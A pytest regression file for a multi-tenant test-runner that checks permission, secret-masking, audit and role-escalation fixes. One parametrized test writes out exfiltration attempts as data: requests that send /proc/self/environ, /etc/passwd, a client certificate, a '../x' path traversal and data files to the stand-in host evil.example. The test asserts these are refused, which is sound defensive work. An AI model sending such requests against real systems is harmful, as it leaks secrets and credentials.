"""Ways in that a review found, each closed: what is asked here was answered wrongly once."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import asyncpg
import pytest
from orbit_runner.worker import RunState
from support.tenants import Tenants

from orbit_context.errors import DefinitionError

if TYPE_CHECKING:
    from uuid import UUID

SEALED = "orbit.seal.v1.AAAAAAAA." + "A" * 40


@pytest.fixture
async def acme(connection: asyncpg.Connection[Any]) -> Tenants:
    """acme: olga owns it, adam is admin, ed editor, vera viewer; una runs the unit payments. evil is of eve."""
    tenants = await Tenants.on(connection)
    await tenants.organization("acme", owner="olga", admin="adam", editor="ed", viewer="vera")
    await tenants.unit("acme", "payments", admin="una")
    await tenants.project("acme", "checkout", unit="payments")
    await tenants.project("acme", "website")
    await tenants.organization("evil", owner="eve")
    return tenants


def suite(**test: Any) -> dict[str, Any]:
    document = {"suite": "s", "tests": [{"key": "a", "request": {"url": "http://evil.example/"}, **test}]}
    return {"project": "website", "key": "s", "name": "s", "document": document, "dependencies": []}


async def load(tenants: Tenants, run_id: UUID | str) -> dict[str, Any]:
    number = await tenants.connection.fetchval(
        "select queue_no from orbit.test_runs where id = $1::text::uuid", str(run_id)
    )
    loaded: dict[str, Any] = json.loads(
        await tenants.connection.fetchval("select orbit_runner.load_run($1)::text", number)
    )
    return loaded


@pytest.mark.parametrize(
    "test",
    [
        {"request": {"method": "POST", "url": "http://evil.example/", "file": "/proc/self/environ"}},
        {"request": {"method": "POST", "url": "http://evil.example/", "multipart": {"x": {"file": "/etc/passwd"}}}},
        {"request": {"method": "POST", "url": "http://evil.example/", "multipart": {"x": ["y", {"file": "../x"}]}}},
        {"request": {"url": "http://evil.example/", "file": "{{ name }}"}},
        {"request": {"url": "http://evil.example/", "tls": {"cert": "/home/orbit/client.pem"}}},
        {"data": {"file": "/home/orbit/people.csv"}},
        {"expect": [{"not": {"schema": "secrets.json"}}]},
    ],
    ids=["body", "part", "one of several parts", "template", "certificate", "rows", "schema"],
)
async def test_no_editor_has_a_worker_read_its_files(acme: Tenants, test: dict[str, Any]) -> None:
    await acme.call_as("ed", "save_suite", suite(**test))
    run = await acme.call_as("ed", "start_run", {"project": "website", "suite": "s", "base_dir": "/"})
    loaded = await load(acme, run["id"])
    assert loaded["base_dir"] is None
    with pytest.raises(DefinitionError, match="is not at hand"):
        RunState.from_database(loaded, None)


async def test_whoever_runs_the_database_may_name_the_folder(acme: Tenants) -> None:
    await acme.call("save_suite", {"organization": "acme", **suite()})
    run = await acme.call(
        "start_run", {"organization": "acme", "project": "website", "suite": "s", "base_dir": "/srv/suites"}
    )
    assert (await load(acme, run["id"]))["base_dir"] == "/srv/suites"
    run = await acme.call("start_run", {"organization": "acme", "project": "website", "suite": "s"})
    assert RunState.from_database(await load(acme, run["id"]), None).tests


@pytest.mark.parametrize("field", ["variables", "templates", "secrets"])
async def test_a_run_takes_nothing_in_place_of_an_object_and_null_for_none(acme: Tenants, field: str) -> None:
    await acme.call_as("ed", "save_suite", suite())
    for value in ([], "x", 1, True, [{"a": 1}]):
        assert await acme.refused("ed", "start_run", {"project": "website", "suite": "s", field: value}) == "OR001"
    run = await acme.call_as("ed", "start_run", {"project": "website", "suite": "s", field: None, "defaults": None})
    assert RunState.from_database(await load(acme, run["id"]), None).tests


async def test_nobody_is_handed_a_secrets_sealed_form_unwritten(acme: Tenants) -> None:
    given = {"organization": "acme", "project": "website", "name": "staging"}
    await acme.call("save_environment", {**given, "variables": [{"name": "p", "value": SEALED, "secret": True}]})
    for person in ("olga", "adam", "vera"):
        async with acme.acting(person):
            assert "orbit.seal" not in json.dumps(await acme.call("get_environment", given))
    told = await acme.call_as("adam", "read_secret", {"project": "website", "environment": "staging", "name": "p"})
    assert told["sealed"] == SEALED
    looks = await acme.connection.fetch("select actor from orbit.audit_log where action = 'secret.read'")
    assert [look["actor"] for look in looks] == ["adam@example.com"]


async def test_replacing_variables_deletes_no_secret_of_somebody_who_may_not(acme: Tenants) -> None:
    given = {"organization": "acme", "project": "website", "name": "staging"}
    secret = {"name": "p", "value": SEALED, "secret": True}
    await acme.call("save_environment", {**given, "variables": [secret]})
    granted = {"user": "ed@example.com", "permission": "environment.write", "project": "website"}
    await acme.call_as("adam", "grant_permission", granted)
    assert await acme.refused("ed", "save_environment", {**given, "variables": []}) == "OR003"
    await acme.call_as("ed", "save_environment", {**given, "replace": False, "variables": [{"name": "q", "value": 1}]})
    await acme.call_as("adam", "save_environment", {**given, "variables": []})
    assert await acme.connection.fetchval("select count(*) from orbit_private.secret") == 0
    await acme.call_as("ed", "save_environment", {**given, "variables": []})  # there are no secrets any more


async def test_rotation_hands_nobody_another_persons_credential(acme: Tenants) -> None:
    await acme.call_as("ed", "save_credential", {"name": "mine", "type": "bearer", "secret": SEALED})
    [secret] = await acme.connection.fetch("select id, key_id, version from orbit_private.secret")
    rotated = await acme.call_as("olga", "rotate_secrets", {"key_id": "BBBBBBBB"})
    assert rotated["sealed"] == []
    assert [one["id"] for one in rotated["locked"]] == [str(secret["id"])]
    theirs = {"id": secret["id"], "expected_key_id": secret["key_id"], "expected_version": secret["version"]}
    request = {**theirs, "sealed": SEALED.replace("AAAAAAAA.", "BBBBBBBB.")}
    assert await acme.refused("olga", "replace_secret", request) == "OR002"
    assert len((await acme.call("rotate_secrets", {"organization": "acme", "key_id": "BBBBBBBB"}))["sealed"]) == 1
    await acme.call("replace_secret", request)


@pytest.mark.parametrize(
    ("function", "there", "nowhere"),
    [
        ("save_business_unit", {"business_unit": "payments"}, {"business_unit": "elsewhere"}),
        ("save_project", {"project": "checkout"}, {"project": "elsewhere"}),
        ("save_fixture", {"project": "checkout"}, {"project": "elsewhere"}),
    ],
)
async def test_who_may_make_none_cannot_tell_what_is_hidden_from_what_is_not_there(
    acme: Tenants, function: str, there: dict[str, Any], nowhere: dict[str, Any]
) -> None:
    told = []
    more = {"name": "x", "rows": [{"a": 1}]} if function == "save_fixture" else {}
    for request in (there, nowhere):
        async with acme.acting("vera"):
            with pytest.raises(asyncpg.PostgresError) as refusal:
                await acme.call(function, {**request, **more})
        told.append((refusal.value.sqlstate, str(refusal.value), refusal.value.detail, refusal.value.hint))
    assert told[0] == told[1]
    assert told[0][0] == "OR003"


async def test_a_hidden_projects_name_is_taken_and_the_project_untouched(acme: Tenants) -> None:
    assert await acme.refused("ed", "save_project", {"project": "checkout", "name": "Mine"}) == "OR004"
    assert await acme.refused("ed", "save_suite", suite() | {"project": "checkout"}) == "OR002"
    assert (await acme.call_as("una", "save_project", {"project": "checkout", "name": "Ours"}))["created"] is False
    assert (await acme.call_as("ed", "save_project", {"project": "new"}))["created"] is True


async def test_nobody_takes_the_name_that_administrative_roles_save_under(acme: Tenants) -> None:
    assert await acme.refused("eve", "create_organization", {"name": "Default"}) == "OR003"
    assert await acme.refused("eve", "create_organization", {"name": "x", "slug": "default"}) == "OR003"
    assert await acme.refused("eve", "update_organization", {"organization": "evil", "slug": "default"}) == "OR003"
    await acme.call("save_suite", suite())
    async with acme.acting("eve"):
        assert await acme.connection.fetchval("select count(*) from orbit.test_suites") == 0
    await acme.call("update_organization", {"organization": "default", "name": "Ours", "slug": "default"})


async def test_what_becomes_a_secret_is_not_in_the_entry_that_says_so(acme: Tenants) -> None:
    given = {"organization": "acme", "scope": "project", "project": "website"}
    await acme.call("set_variables", {**given, "variables": [{"name": "p", "value": "in clear so far"}]})
    await acme.call("set_variables", {**given, "variables": [{"name": "p", "value": SEALED, "secret": True}]})
    await acme.call("set_variables", {**given, "variables": [{"name": "p", "value": "clear again", "secret": False}]})
    entries = await acme.connection.fetch(
        "select before::text || after::text as told from orbit.audit_log where action = 'variable.update'"
    )
    assert len(entries) == 2
    for entry in entries:
        assert "clear" not in entry["told"]
        assert "(masked)" in entry["told"]


async def test_no_worker_sets_the_clock_or_gives_up_those_that_live(acme: Tenants) -> None:
    async def tick(arguments: str) -> str | None:
        try:
            async with acme.connection.transaction():
                await acme.connection.execute("set local role orbit_runner")
                await acme.connection.execute(f"select orbit_runner.tick({arguments})")
        except asyncpg.PostgresError as error:
            return error.sqlstate
        return None

    assert await tick("p_now => now() + interval '1 year'") == "OR003"
    for lease in ("0", "-1 day", "0.5 seconds"):
        assert await tick(f"'{lease}'") == "OR003"
    assert await tick("") is None
    assert await tick("'1 second'") is None


async def test_what_ends_makes_nothing_that_does_not(acme: Tenants) -> None:
    """Memberships do not end: who is admin of a unit for an hour does not make themselves, or others, its admins for good."""
    granted = {"organization": "acme", "user": "ed@example.com", "permission": "admin", "business_unit": "payments"}
    await acme.call("grant_permission", {**granted, "expires_at": "2999-01-01T00:00:00Z"})
    for whom in ("me", "vera@example.com"):
        for role in ("admin", "viewer"):
            given = {"business_unit": "payments", "user": whom, "role": role}
            assert await acme.refused("ed", "set_unit_member", given) == "OR003"
    async with acme.acting("ed"):  # what they were given for that hour, they do
        await acme.call("save_business_unit", {"business_unit": "payments", "description": "Theirs for an hour"})
        await acme.call("remove_unit_member", {"business_unit": "payments", "user": "una@example.com"})
    lasting = {"business_unit": "payments", "user": "ed@example.com", "role": "admin"}
    assert (await acme.call_as("una", "set_unit_member", lasting))["changed"]


async def test_the_same_of_an_organisation(acme: Tenants) -> None:
    granted = {"user": "vera@example.com", "permission": "admin", "resource_type": "system"}
    await acme.call("grant_permission", {**granted, "expires_at": "2999-01-01T00:00:00Z"})
    promoted = {"organization": "acme", "user": "me", "role": "admin"}
    assert await acme.refused("vera", "set_member_role", promoted) == "OR003"
    given = {"organization": "acme", "email": "friend@example.com", "role": "admin"}
    assert await acme.refused("vera", "invite_member", given) == "OR003"
    assert (await acme.call_as("vera", "invite_member", given | {"role": "viewer"}))["role"] == "viewer"


async def test_a_reason_is_not_copied_to_every_test_whatever_its_length(acme: Tenants) -> None:
    await acme.call_as("ed", "save_suite", suite())
    run = await acme.call_as("ed", "start_run", {"project": "website", "suite": "s"})
    assert await acme.refused("ed", "cancel_run", {"run_id": run["id"], "reason": "x" * 1001}) == "OR001"
    assert (await acme.call_as("ed", "cancel_run", {"run_id": run["id"], "reason": "x" * 1000}))["changed"]
